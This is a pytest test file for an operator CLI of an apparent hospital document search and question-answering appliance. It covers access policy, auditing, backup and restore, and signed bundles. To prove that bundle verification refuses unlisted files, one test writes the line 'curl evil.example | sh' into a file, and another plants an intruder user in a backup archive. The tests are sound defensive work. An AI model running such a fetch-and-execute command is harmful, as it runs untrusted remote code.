"""The ``appliance`` command as an operator runs it."""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from appliance.cli import app
from appliance.generate.prompt import fence_key
from appliance.model_registry import ModelRegistry
from tests.conftest import SAMPLE_CORPUS, SAMPLE_SUBJECTS, audit_entries, make_settings

runner = CliRunner()


def said(result: Result) -> str:
    """What a command printed, as one line (the console wraps long messages)."""
    return " ".join(result.output.split())


def run_audit(data_dir: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """The audit tool as an auditor runs it: its own process, on the log directory."""
    return subprocess.run(
        [sys.executable, "-m", "audit.cli", "--dir", str(data_dir / "audit"), *args],
        capture_output=True,
        text=True,
        check=False,
    )


@pytest.fixture
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A data directory with the demo users installed, as ``appliance demo`` leaves it."""
    monkeypatch.setenv("APPLIANCE_DATA_DIR", str(tmp_path / "data"))
    (tmp_path / "data" / "access").mkdir(parents=True)
    shutil.copy(SAMPLE_SUBJECTS, tmp_path / "data" / "access" / "subjects.toml")
    return tmp_path / "data"


def test_ingest_search_list_and_remove(corpus_copy: Path, data_dir: Path) -> None:
    (corpus_copy / "notes.xlsx").write_bytes(b"not supported")
    result = runner.invoke(app, ["ingest", str(corpus_copy), str(corpus_copy / "notes.xlsx")])
    assert result.exit_code == 1, result.output
    assert "5 added, 0 updated, 0 unchanged, 1 failed" in result.output

    result = runner.invoke(app, ["search", "E11.9", "--user", "dr-shah", "--json", "-k", "3"])
    assert result.exit_code == 0, result.output
    payload = json.loads(result.stdout)
    top = payload["results"][0]
    assert top["doc_id"] == "diabetes-coding-guide"
    assert "E11.9" in top["text"]
    assert {"lexical", "dense"} <= set(top["retrievers"])
    assert top["heading_path"] == ["Clinical Coding Guide for Diabetes", "Type 2 diabetes"]
    assert payload["filter"].startswith("(in force on")
    assert payload["user"] == "dr-shah" and len(payload["policy_version"]) == 64

    result = runner.invoke(
        app,
        [
            "search",
            "dosing table",
            "--user",
            "pharm-haddad",
            "--doc-type",
            "formulary",
            "--mode",
            "lexical",
        ],
    )
    assert result.exit_code == 0
    assert "filter: (doc_type in [formulary] and in force on" in result.output
    assert "Antimicrobial" in result.output and "page 1" in result.output

    result = runner.invoke(app, ["docs", "list"])
    assert "5 documents" in result.output

    result = runner.invoke(app, ["docs", "remove", "visiting-hours", "nope"])
    assert result.exit_code == 1
    assert "removed visiting-hours" in result.output


def test_search_rejects_an_empty_question_and_an_unknown_mode(data_dir: Path) -> None:
    assert runner.invoke(app, ["search", "   ", "--user", "dr-shah"]).exit_code == 2
    assert (
        runner.invoke(app, ["search", "x", "--user", "dr-shah", "--mode", "magic"]).exit_code == 2
    )
    result = runner.invoke(app, ["search", "x", "--user", "nobody"])
    assert result.exit_code == 2 and "no user 'nobody'" in result.output
    assert runner.invoke(app, ["search", "x"]).exit_code == 2  # no user: refused, not served


def test_models_verify_fails_only_for_absent_models_the_settings_use(
    data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import shutil

    from appliance.settings import PROJECT_ROOT

    models = tmp_path / "models"
    shutil.copytree(PROJECT_ROOT / "models" / "manifests", models / "manifests")
    for optional in ("llm.toml", "llm-small.toml"):
        (models / "manifests" / optional).unlink()
    (models / "manifests" / "big-llm.toml").write_text(
        'role = "big-llm"\nname = "a large model"\nkind = "gguf"\nlicence = "x"\n\n'
        '[source]\npackage = "no_such_model_package"\ninstall = "pip install it"\n\n'
        '[[files]]\npath = "model.gguf"\nsha256 = "' + "0" * 64 + '"\n'
    )
    monkeypatch.setenv("APPLIANCE_MODELS_DIR", str(models))
    unused = runner.invoke(app, ["models", "verify"])
    assert unused.exit_code == 0, unused.output
    assert "absent" in unused.output and "no_such_model_package" in unused.output
    monkeypatch.setenv("APPLIANCE_GENERATOR__KIND", "llama-cpp")
    monkeypatch.setenv("APPLIANCE_GENERATOR__MODEL_ROLE", "big-llm")
    used = runner.invoke(app, ["models", "verify"])
    assert used.exit_code == 1 and "fail" in used.output


def test_models_list_and_verify(data_dir: Path) -> None:
    result = runner.invoke(app, ["models", "verify"])
    assert result.exit_code == 0, result.output
    assert "ok" in result.output and "embedder" in result.output
    assert "all-MiniLM" in runner.invoke(app, ["models", "list"]).output


def test_policy_commands_change_explain_and_audit(corpus_copy: Path, data_dir: Path) -> None:
    assert runner.invoke(app, ["ingest", str(corpus_copy)]).exit_code == 0
    chunk = json.loads(
        runner.invoke(app, ["search", "E11.9", "--user", "dr-shah", "--json", "-k", "1"]).stdout
    )["results"][0]["chunk_id"]

    result = runner.invoke(app, ["policy", "test", "pharm-haddad", chunk])
    assert result.exit_code == 0, result.output  # internal: every staff member reads it
    assert "ALLOW" in result.output and "role:staff, *, internal, read, allow" in result.output

    deny = ["p", "user:pharm-haddad", "coding", "internal", "read", "deny"]
    result = runner.invoke(app, ["policy", "add", *deny, "--actor", "it-santos"])
    assert result.exit_code == 0, result.output
    result = runner.invoke(app, ["policy", "test", "pharm-haddad", chunk])
    assert result.exit_code == 1 and "DENY" in result.output
    assert "user:pharm-haddad, coding, internal, read, deny" in result.output
    search = runner.invoke(app, ["search", "E11.9", "--user", "pharm-haddad", "--json"])
    assert chunk not in search.stdout

    assert "user:pharm-haddad" in runner.invoke(app, ["policy", "list"]).output
    assert runner.invoke(app, ["policy", "add", *deny]).exit_code == 1  # already there
    assert runner.invoke(app, ["policy", "remove", *deny]).exit_code == 0
    assert runner.invoke(app, ["policy", "test", "pharm-haddad", chunk]).exit_code == 0
    result = runner.invoke(
        app, ["policy", "add", "p", "role:nurse", "*", "secret", "read", "allow"]
    )
    assert result.exit_code == 2 and "sensitivity 'secret'" in result.output

    assert runner.invoke(app, ["policy", "test", "it-santos", "--action", "ingest"]).exit_code == 0
    assert runner.invoke(app, ["policy", "test", "nobody", chunk]).exit_code == 2
    assert "dr-okafor" in runner.invoke(app, ["users", "list"]).output

    changes = audit_entries(data_dir, "policy_change")
    rule = "p, user:pharm-haddad, coding, internal, read, deny"
    assert changes[0]["actor"]["user"] == "it-santos"
    assert [(e["details"]["added"], e["details"]["removed"]) for e in changes] == [
        ([rule], []),
        ([], [rule]),
    ]
    questions = audit_entries(data_dir, "question")
    assert [q["actor"]["user"] for q in questions] == ["dr-shah", "pharm-haddad"]
    ingested = audit_entries(data_dir, "ingestion")
    assert {e["details"]["doc_id"] for e in ingested} >= {"diabetes-coding-guide"}
    assert run_audit(data_dir, "verify").returncode == 0


def test_users_are_added_granted_revoked_and_removed_checked_and_audited(
    corpus_copy: Path, data_dir: Path
) -> None:
    assert runner.invoke(app, ["ingest", str(corpus_copy)]).exit_code == 0
    subjects = data_dir / "access" / "subjects.toml"
    before = subjects.read_text(encoding="utf-8")
    typo = runner.invoke(app, ["users", "add", "nurse-ade", "--role", "nruse"])
    assert typo.exit_code == 2 and "did you mean nurse" in said(typo), typo.output
    typo = runner.invoke(app, ["users", "add", "nurse-ade", "--role", "nurse",
                               "--department", "cardiolgy"])  # fmt: skip
    assert typo.exit_code == 2 and "did you mean cardiology" in said(typo)
    assert subjects.read_text(encoding="utf-8") == before  # refused: nothing written
    added = runner.invoke(app, ["users", "add", "nurse-ade", "--role", "nurse", "--department",
                                "Cardiology", "--actor", "it-santos"])  # fmt: skip
    assert added.exit_code == 0, added.output
    assert runner.invoke(app, ["users", "add", "nurse-ade", "--role", "nurse"]).exit_code == 2
    granted = runner.invoke(app, ["users", "grant", "nurse-ade", "--department", "icu",
                                  "--care-team", "P-10234"])  # fmt: skip
    assert granted.exit_code == 0 and "care team P-10234" in said(granted), granted.output
    last_role = runner.invoke(app, ["users", "revoke", "nurse-ade", "--role", "nurse"])
    assert last_role.exit_code == 2 and "no role left" in said(last_role)
    listed = json.loads(runner.invoke(app, ["users", "list", "--json"]).stdout)
    ade = next(u for u in listed if u["user"] == "nurse-ade")
    assert ade == {"user": "nurse-ade", "roles": ["nurse"],
                   "departments": ["cardiology", "icu"], "care_team": ["P-10234"]}  # fmt: skip
    assert subjects.read_text(encoding="utf-8").startswith("# Demo users")  # comments kept
    assert runner.invoke(app, ["users", "remove", "nurse-ade"]).exit_code == 0
    assert runner.invoke(app, ["users", "remove", "nurse-ade"]).exit_code == 2
    changes = audit_entries(data_dir, "account_change")
    assert [(c["details"]["action"], c["details"]["user"]) for c in changes] == [
        ("added", "nurse-ade"), ("changed", "nurse-ade"), ("removed", "nurse-ade"),
    ]  # fmt: skip
    assert changes[0]["actor"]["user"] == "it-santos"
    assert changes[1]["details"]["changes"] == {
        "granted departments": ["icu"], "granted care_team": ["P-10234"],
    }  # fmt: skip

    # the policy: an unknown role is a typo unless said new; read without cite is warned
    rule = ["p", "role:nruse", "own", "internal", "read", "allow"]
    refused = runner.invoke(app, ["policy", "add", *rule])
    assert refused.exit_code == 2 and "did you mean nurse" in said(refused)
    fresh = ["p", "role:porter", "own", "internal", "read", "allow"]
    meant = runner.invoke(app, ["policy", "add", *fresh, "--new"])
    assert meant.exit_code == 0, meant.output
    assert "may read internal documents of own but not cite" in said(meant)
    # a document id stands for its passages
    tested = runner.invoke(app, ["policy", "test", "dr-okafor", "hand-hygiene-policy"])
    assert tested.exit_code == 0 and "document hand-hygiene-policy:" in said(tested)
    documents = json.loads(runner.invoke(app, ["docs", "list", "--json"]).stdout)
    hygiene = next(d for d in documents if d["doc_id"] == "hand-hygiene-policy")
    assert hygiene["chunks"] > 0 and hygiene["state"] == "indexed" and hygiene["title"]


def test_doctor_backup_and_restore(
    corpus_copy: Path, data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert runner.invoke(app, ["ingest", str(corpus_copy)]).exit_code == 0
    asked = runner.invoke(app, ["ask", "How long should I rub my hands with alcohol gel?",
                                "--user", "dr-okafor"])  # fmt: skip
    assert asked.exit_code == 0, asked.output
    checked = runner.invoke(app, ["doctor"])
    assert checked.exit_code == 0, checked.output
    for name in ("models", "policy", "users", "stores", "audit log", "witness", "permissions",
                 "disk", "clock"):  # fmt: skip
        assert any(line.split()[1:2] == name.split()[:1] for line in checked.output.splitlines())
    assert "9 of 9 checks pass" in said(checked)
    # A generator role the settings name but no site command has made yet fails the
    # models check, naming the command that makes it.
    monkeypatch.setenv("APPLIANCE_GENERATOR__KIND", "llama-cpp")
    monkeypatch.setenv("APPLIANCE_GENERATOR__MODEL_ROLE", "llm-tuned")
    unmade = runner.invoke(app, ["doctor"])
    assert unmade.exit_code == 1 and "llm-tuned (no model manifest" in said(unmade)
    assert "merge-generator" in said(unmade)
    unverified = runner.invoke(app, ["models", "verify"])
    assert unverified.exit_code == 1 and "merge-generator" in said(unverified)
    monkeypatch.delenv("APPLIANCE_GENERATOR__KIND")
    monkeypatch.delenv("APPLIANCE_GENERATOR__MODEL_ROLE")
    key = data_dir / "audit" / "checkpoint-key.pem"
    key.chmod(0o644)
    loose = runner.invoke(app, ["doctor"])
    assert loose.exit_code == 1 and "readable by others" in said(loose)
    key.chmod(0o600)

    fence = fence_key(data_dir)  # made once an LLM generator starts; restored with the rest
    made = runner.invoke(app, ["backup", str(tmp_path / "backups")])
    assert made.exit_code == 0, made.output
    [archive] = (tmp_path / "backups").glob("appliance-backup-*.tar.gz")
    assert archive.stat().st_mode & 0o077 == 0  # patient documents and the signing key

    restored_dir = tmp_path / "restored"
    monkeypatch.setenv("APPLIANCE_DATA_DIR", str(restored_dir))
    restored = runner.invoke(app, ["restore", str(archive)])
    assert restored.exit_code == 0, restored.output
    assert "stores rebuilt and in agreement" in said(restored)
    assert fence_key(restored_dir) == fence  # the same prompts as before the restore
    again = runner.invoke(app, ["ask", "How long should I rub my hands with alcohol gel?",
                                "--user", "dr-okafor"])  # fmt: skip
    assert again.exit_code == 0 and "20 to 30 seconds" in said(again), again.output
    assert run_audit(restored_dir, "verify").returncode == 0
    assert runner.invoke(app, ["restore", str(archive)]).exit_code == 1  # not empty now

    # an archive altered after the backup is refused, naming the file, and leaves nothing
    tampered = tmp_path / "tampered.tar.gz"
    with tarfile.open(archive) as original, tarfile.open(tampered, "w:gz") as altered:
        for member in original.getmembers():
            content = original.extractfile(member).read()  # type: ignore[union-attr]
            if member.name == "access/subjects.toml":
                content += b'\n[users.intruder]\nroles = ["clinician"]\n'
                member.size = len(content)
            altered.addfile(member, io.BytesIO(content))
    empty = tmp_path / "empty"
    monkeypatch.setenv("APPLIANCE_DATA_DIR", str(empty))
    refused = runner.invoke(app, ["restore", str(tampered)])
    assert refused.exit_code == 1 and "access/subjects.toml differs" in said(refused)
    assert not any(empty.iterdir())


def test_a_bundle_is_built_signed_verified_and_refused_when_altered(
    data_dir: Path, tmp_path: Path
) -> None:
    key = tmp_path / "keys" / "bundle-signing.pem"
    assert runner.invoke(app, ["bundle", "key", str(key)]).exit_code == 0
    assert key.stat().st_mode & 0o077 == 0
    assert runner.invoke(app, ["bundle", "key", str(key)]).exit_code == 2  # never overwritten
    cache = tmp_path / "server-cache"
    cache.mkdir()
    (cache / "opensearch-2.19.6.zip").write_bytes(b"stand-in for the server archive")
    bundle = tmp_path / "bundle"
    built = runner.invoke(app, ["bundle", "build", str(bundle), "--key", str(key),
                                "--no-wheels", "--server-cache", str(cache)])  # fmt: skip
    assert built.exit_code == 0, built.output
    embedder = next((bundle / "models").glob("embedder--*"))
    assert embedder.name == "embedder--all-MiniLM-L6-v2" and (embedder / "LICENCE.txt").is_file()
    # The bundle's models folder is a registry of its own: a host whose models_dir points
    # at it resolves and checks the copied files, with no model package installed.
    hosted = ModelRegistry(make_settings(tmp_path / "host", models_dir=bundle / "models"))
    assert hosted.resolve("embedder").directory == embedder
    assert hosted.resolve("verifier").manifest.threshold is not None
    assert (bundle / "servers" / "opensearch-2.19.6.zip").is_file()
    assert (bundle / "policies" / "policy.csv").is_file()
    public = key.with_suffix(".pub")
    verified = runner.invoke(app, ["bundle", "verify", str(bundle), "--public-key", str(public)])
    assert verified.exit_code == 0 and "files verified" in said(verified), verified.output

    policy = bundle / "policies" / "policy.csv"
    policy.write_text(policy.read_text("utf-8") + "p, role:nurse, *, restricted, read, allow\n")
    altered = runner.invoke(app, ["bundle", "verify", str(bundle), "--public-key", str(public)])
    assert altered.exit_code == 1 and "policies/policy.csv differs" in said(altered)
    shutil.rmtree(bundle)
    assert runner.invoke(app, ["bundle", "build", str(bundle), "--key", str(key), "--no-wheels",
                               "--server-cache", str(cache)]).exit_code == 0  # fmt: skip
    (bundle / "servers" / "extra.sh").write_text("curl evil.example | sh\n")
    extra = runner.invoke(app, ["bundle", "verify", str(bundle), "--public-key", str(public)])
    assert extra.exit_code == 1 and "servers/extra.sh is in the bundle but not" in said(extra)
    (bundle / "servers" / "extra.sh").unlink()
    other = tmp_path / "other.pem"
    runner.invoke(app, ["bundle", "key", str(other)])
    foreign = runner.invoke(
        app, ["bundle", "verify", str(bundle), "--public-key", str(other.with_suffix(".pub"))]
    )
    assert foreign.exit_code == 1 and "is not signed by the key" in said(foreign)


def test_a_document_readable_by_few_is_reported_at_ingestion(
    data_dir: Path, tmp_path: Path
) -> None:
    rota = tmp_path / "theatre-rota.md"
    rota.write_text(
        "---\nsensitivity: confidential\n---\n# Theatre Rota\n\nLists start at 08:00.\n"
    )
    result = runner.invoke(app, ["ingest", str(rota)])
    assert result.exit_code == 0, result.output
    assert "no departments: this confidential document is readable only by roles" in said(result)


def test_break_glass_needs_the_right_role_and_a_reason(data_dir: Path) -> None:
    reason = "cardiac arrest in ED, patient P-10234"
    patient = ["--patient", "P-10234"]
    result = runner.invoke(
        app, ["break-glass", "start", "nurse-lindqvist", "--reason", reason, *patient]
    )
    assert result.exit_code == 1 and "may not request-break-glass" in result.output
    result = runner.invoke(app, ["break-glass", "start", "dr-okafor", "--reason", "now", *patient])
    assert result.exit_code == 1 and "written reason" in result.output
    result = runner.invoke(app, ["break-glass", "start", "dr-okafor", "--reason", reason, *patient])
    assert result.exit_code == 0 and "BREAK-THE-GLASS ACTIVE" in result.output
    assert runner.invoke(app, ["break-glass", "end", "dr-okafor"]).exit_code == 0
    assert runner.invoke(app, ["break-glass", "end", "dr-okafor"]).exit_code == 1


def test_eval_reports_progress_and_writes_its_report(
    corpus_copy: Path, data_dir: Path, tmp_path: Path
) -> None:
    golden = tmp_path / "golden.jsonl"
    result = runner.invoke(app, ["eval", "--golden", str(golden)])
    assert result.exit_code == 2  # the file does not exist yet: refused, nothing run
    golden.write_text(
        json.dumps({"question": "Which respirator do staff wear for tuberculosis?",
                    "doc_id": "isolation-precautions", "quote": "Staff wear an FFP3 respirator"})
        + "\n" + json.dumps({"question": "How do I book annual leave?", "answerable": False})
        + "\n" + json.dumps({
            "question": "Who is contacted about dexrazoxane after an anthracycline extravasation?",
            "doc_id": "chemotherapy-extravasation",
            "quote": "contact the oncology registrar about dexrazoxane"})
        + "\n"
    )  # fmt: skip
    # The oncology unit's guideline is confidential: not every user may read it.
    shutil.copy(SAMPLE_CORPUS / "chemotherapy-extravasation.txt", corpus_copy)
    result = runner.invoke(app, ["eval", "--golden", str(golden)])
    assert result.exit_code == 2
    assert "ingest the corpus the golden set is about" in " ".join(result.stderr.split())
    assert runner.invoke(app, ["ingest", str(corpus_copy)]).exit_code == 0
    report = tmp_path / "report"
    result = runner.invoke(app, ["eval", "--golden", str(golden), "--report", str(report)])
    assert result.exit_code == 0, result.output
    # stderr is not a terminal here: progress comes as log lines, the last one at 2 of 2
    progress = [line for line in result.stderr.splitlines() if line.startswith("golden questions:")]
    assert progress and progress[-1].startswith("golden questions: 3/3 (100%)")
    assert sorted(p.name for p in report.iterdir()) == ["golden.json", "golden.md", "golden.png"]
    written = json.loads((report / "golden.json").read_text())
    figures = written["figures"]
    assert figures["correct_refusal_rate"] == 1.0 and figures["false_refusal_rate"] == 0.0
    assert written["asked_as"] == "golden-evaluator"
    # Asked as a user: the report says who; an unknown user is refused before any question.
    result = runner.invoke(
        app, ["eval", "--golden", str(golden), "--report", str(report), "--user", "dr-okafor"]
    )
    assert result.exit_code == 0, result.output
    assert json.loads((report / "golden.json").read_text())["asked_as"] == "dr-okafor"
    assert "Asked as `dr-okafor`" in (report / "golden.md").read_text()
    result = runner.invoke(app, ["eval", "--golden", str(golden), "--user", "nobody-here"])
    assert result.exit_code == 2 and "appliance users list" in " ".join(result.stderr.split())
    # As each of the site's users: a report each, under the gates for a user. The IT
    # administrator may not read the confidential guideline: a false refusal, by design,
    # not a failed gate (the reader of everything's gates would fail it).
    every = tmp_path / "every"
    asked = ["eval", "--golden", str(golden), "--report", str(every), "--every-user"]
    result = runner.invoke(app, asked)
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in every.iterdir()) == [
        "audit-ito", "dr-okafor", "dr-shah", "head-moreau", "it-santos", "nurse-lindqvist",
        "pharm-haddad",
    ]  # fmt: skip
    it = json.loads((every / "it-santos" / "golden.json").read_text())
    assert it["asked_as"] == "it-santos" and it["figures"]["false_refusal_rate"] == 0.5
    assert "golden questions as it-santos: 3/3" in result.stderr
    assert runner.invoke(app, [*asked, "--user", "dr-okafor"]).exit_code == 2


def test_ask_prints_whom_the_answer_covers_and_how_the_question_was_read(
    corpus_copy: Path, data_dir: Path
) -> None:
    assert runner.invoke(app, ["ingest", str(corpus_copy)]).exit_code == 0
    result = runner.invoke(
        app, ["ask", "usual dose of meropenem for a pt on the ward", "--user", "dr-okafor"]
    )
    assert result.exit_code == 0, result.output
    text = " ".join(result.output.split())
    assert "For adults:" in text and "Meropenem" in text
    assert "read as: usual dose of meropenem for a patient on the ward" in text


def test_turning_the_graph_on_fills_it_from_the_catalog_once(
    corpus_copy: Path, data_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An upgrade from a release without the knowledge graph: the catalog's chunks go
    into the new graph (what the upgrade runs), and a second run has nothing to do."""
    monkeypatch.setenv("APPLIANCE_GRAPH__ENGINE", "none")
    assert runner.invoke(app, ["ingest", str(corpus_copy)]).exit_code == 0
    unchanged = runner.invoke(app, ["docs", "rebuild-stores", "--only-behind"])
    assert unchanged.exit_code == 0 and "nothing to do" in said(unchanged), unchanged.output

    monkeypatch.setenv("APPLIANCE_GRAPH__ENGINE", "arcadedb")
    filled = runner.invoke(app, ["docs", "rebuild-stores", "--only-behind"])
    assert filled.exit_code == 0, filled.output
    assert "'graph': 0" in said(filled) and "5 documents" in said(filled)
    again = runner.invoke(app, ["docs", "rebuild-stores", "--only-behind"])
    assert again.exit_code == 0 and "nothing to do" in said(again), again.output
    assert "lexical, vectors, graph each hold" in said(again)
